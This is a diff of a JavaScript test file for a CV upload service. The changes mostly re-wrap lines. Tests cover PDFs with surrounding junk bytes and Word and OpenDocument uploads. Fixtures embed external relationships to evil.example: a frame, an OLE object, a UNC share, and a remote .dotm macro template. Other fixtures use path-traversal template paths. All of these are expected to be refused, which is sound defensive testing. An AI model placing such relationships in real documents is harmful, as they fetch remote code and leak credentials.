@@ -51,18 +51,28 @@ describe('P-04 a PDF that opens without a password is taken and read, whatever i
 })
 
 describe('P-04 a PDF is taken with what servers and mails put around it, which is not kept', () => {
-  const before = ['\uFEFF', '\r\n', '\n\n\n', '   ', 'HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n', '\0\0\0']
+  const before = [
+    '\uFEFF',
+    '\r\n',
+    '\n\n\n',
+    '   ',
+    'HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n',
+    '\0\0\0',
+  ]
   test.each(before)('%j before it', async (junk) => {
     const { status, kept } = await upload('cv.pdf', Buffer.concat([Buffer.from(junk), plain]))
     expect([status, kept?.equals(plain)]).toEqual([200, true])
   })
-  test.each(['\n% made by a printer\n', '<!-- served in 3 ms -->\n', '\r\n--boundary--\r\n', '\u001A', 'x'.repeat(900)])(
-    '%j behind it',
-    async (junk) => {
-      const { status, kept } = await upload('cv.pdf', Buffer.concat([plain, Buffer.from(junk)]))
-      expect([status, kept?.toString('latin1').trimEnd()]).toEqual([200, plain.toString('latin1').trimEnd()])
-    },
-  )
+  test.each([
+    '\n% made by a printer\n',
+    '<!-- served in 3 ms -->\n',
+    '\r\n--boundary--\r\n',
+    '\u001A',
+    'x'.repeat(900),
+  ])('%j behind it', async (junk) => {
+    const { status, kept } = await upload('cv.pdf', Buffer.concat([plain, Buffer.from(junk)]))
+    expect([status, kept?.toString('latin1').trimEnd()]).toEqual([200, plain.toString('latin1').trimEnd()])
+  })
   test('P-04 the case of the byte order mark is read', async () => {
     const { status, candidate } = await upload('cv.pdf', stored('cv-bom.pdf'))
     expect([status, candidate?.lastName]).toEqual([200, 'Sample'])
@@ -116,7 +126,10 @@ describe('P-04 a Word file made from a template is taken, and what is kept no lo
       ['[Content_Types].xml', '<Types/>'],
       ['word/document.xml', letterText('<w:r><w:t>Drew Sample</w:t></w:r>')],
       ['word/settings.xml', settings],
-      ['word/_rels/settings.xml.rels', `<?xml version="1.0"?>\r\n<Relationships xmlns="x">${one}${OTHER}</Relationships>`],
+      [
+        'word/_rels/settings.xml.rels',
+        `<?xml version="1.0"?>\r\n<Relationships xmlns="x">${one}${OTHER}</Relationships>`,
+      ],
     ])
     const { status, candidate, kept, resume } = await upload('cv.docx', bytes)
     expect([status, candidate?.lastName]).toEqual([200, 'Sample'])
@@ -130,7 +143,10 @@ describe('P-04 a Word file made from a template is taken, and what is kept no lo
   test.each([
     ['a frame', `<Relationship Id="r2" Type="/frame" TargetMode="External" Target="https://evil.example"/>`],
     ['an object', `<Relationship Id="r2" Type="/oleObject" TargetMode="External" Target="https://evil.example"/>`],
-    ['a link to a share', `<Relationship Id="r2" Type="/hyperlink" TargetMode="External" Target="\\\\evil.example\\a"/>`],
+    [
+      'a link to a share',
+      `<Relationship Id="r2" Type="/hyperlink" TargetMode="External" Target="\\\\evil.example\\a"/>`,
+    ],
   ])('P-04 beside %s it stays refused', async (_, other) => {
     const one = `<Relationship Id="r1" Type="${RELATION}" Target="\\\\evil.example\\a.dotm" TargetMode="External"/>`
     expect(await upload('cv.docx', letterWithLinks(one + other))).toMatchObject({ status: 422 })
@@ -148,7 +164,10 @@ describe('P-04 an OpenDocument text made from a template is taken, and what is k
         'content.xml',
         `<office:document-content xmlns:office="o" xmlns:text="t" xmlns:draw="d" xmlns:xlink="x"><office:body><office:text><text:p>Drew Sample</text:p>${content}</office:text></office:body></office:document-content>`,
       ],
-      ['meta.xml', `<office:document-meta xmlns:office="o" xmlns:meta="m" xmlns:xlink="x">${meta}</office:document-meta>`],
+      [
+        'meta.xml',
+        `<office:document-meta xmlns:office="o" xmlns:meta="m" xmlns:xlink="x">${meta}</office:document-meta>`,
+      ],
     ])
   test.each([...TEMPLATES, '../../CV.ott', '/home/drew/Templates/CV.ott'])('%s', async (href) => {
     const { status, candidate, kept } = await upload(
